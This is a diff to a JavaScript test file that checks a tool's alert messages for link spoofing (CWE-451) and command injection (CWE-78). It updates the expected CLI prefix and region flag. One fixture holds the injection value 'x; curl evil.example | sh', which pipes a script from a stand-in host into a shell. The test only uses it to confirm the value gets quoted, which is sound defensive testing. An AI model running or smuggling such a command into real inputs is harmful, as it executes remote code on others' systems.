@@ -103,7 +103,10 @@ describe('no text of others becomes a link in a mail, page or card (CWE-451)', (
   ])('%s', (text) => {
     for (const each of sentFor(text)) {
       // A failure's id may look like a host, and a command or a key must not change it.
-      if (/^(?:```)? *backstop (?!.*\/)|^(?:\/v2\/alerts\/)?backstop(?:\/|%2F)(?!.*:\/\/)/.test(each)) continue;
+      if (
+        /^(?:```)? *npx @backstop-cdk\/backstop (?!.*\/)|^(?:\/v2\/alerts\/)?backstop(?:\/|%2F)(?!.*:\/\/)/.test(each)
+      )
+        continue;
       const shown = each.replace(OURS, '');
       expect(shown).not.toMatch(/:\/\/|[.\u3002](?:com|example|xn)/i);
     }
@@ -136,7 +139,11 @@ it('commands in alerts quote what others chose (CWE-78)', () => {
   const text = 'x; curl evil.example | sh';
   const { commands } = incidentTexts(sampleNotification('trigger', hostile(text), text), WHERE);
   const word = "'x; curl evil[.]example | sh'";
-  expect(commands).toEqual([`backstop dlq show ${word}`, `backstop dlq ls ${word} --reason ${word}`]);
+  const where = `--region ${WHERE.region}`;
+  expect(commands).toEqual([
+    `npx @backstop-cdk/backstop dlq show ${word} ${where}`,
+    `npx @backstop-cdk/backstop dlq ls ${word} --reason ${word} ${where}`,
+  ]);
 });
 
 it('the key of an incident is one plain line, and keys of different causes differ (CWE-93)', () => {
